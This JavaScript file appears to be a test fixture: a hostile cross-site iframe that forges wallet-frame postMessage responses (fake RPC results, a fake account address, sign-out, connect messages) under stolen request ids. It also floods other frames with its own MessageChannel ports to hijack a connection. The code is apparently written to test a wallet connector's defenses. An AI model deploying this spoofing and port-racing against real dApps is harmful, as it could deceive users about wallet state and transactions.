/**
 * Lives in the same page as the frame, on another site. Does what the page
 * tells it: forges the frame's messages to the dApp, or races for its port.
 */
const forged = (id) => [
  { type: '@w3m-frame/RPC_REQUEST_SUCCESS', id, payload: '0xdeadbeef' },
  { type: '@w3m-frame/RPC_REQUEST_ERROR', id, payload: { message: 'forged' } },
  {
    type: '@w3m-frame/GET_USER_SUCCESS',
    id,
    payload: { address: `0x${'66'.repeat(20)}`, chainId: 1 },
  },
  { type: '@w3m-frame/IS_CONNECTED_SUCCESS', id, payload: { isConnected: false } },
  { type: '@w3m-frame/SIGN_OUT_SUCCESS', id, payload: undefined },
  { type: '@w3m-frame/READY', payload: { version: '4' } },
  { type: '@w3m-frame/READY', payload: {} },
  { type: '@w3m-frame/ACCOUNTS_CHANGED', payload: {} },
  { type: '@w3m-frame/RESIZE', payload: { height: 1 } },
  { type: '@latchkey/CONNECTED', id },
]

const duties = {
  /** Posts `count` forged messages under the stolen ids. */
  forge({ ids, count }) {
    for (let sent = 0; sent < count; ) {
      for (const id of ids) {
        for (const message of forged(id)) {
          if (sent++ < count) parent.postMessage(message, '*')
        }
      }
    }
    parent.postMessage({ sibling: 'forged', count }, '*')
  },
  /** Offers a port of its own to every other frame of the page, `count` times, 1 ms apart. */
  race({ count }) {
    let wins = 0
    let tried = 0
    const timer = setInterval(() => {
      for (let index = 0; index < parent.length; index += 1) {
        if (parent[index] === window) continue
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = () => {
          wins += 1
        }
        parent[index].postMessage({ type: '@latchkey/CONNECT', id: crypto.randomUUID() }, '*', [
          port2,
        ])
        tried += 1
      }
      parent.postMessage({ sibling: 'raced', tried, wins }, '*')
      if (tried >= count) clearInterval(timer)
    }, 1)
  },
}

addEventListener('message', ({ data }) => duties[data?.duty]?.(data))
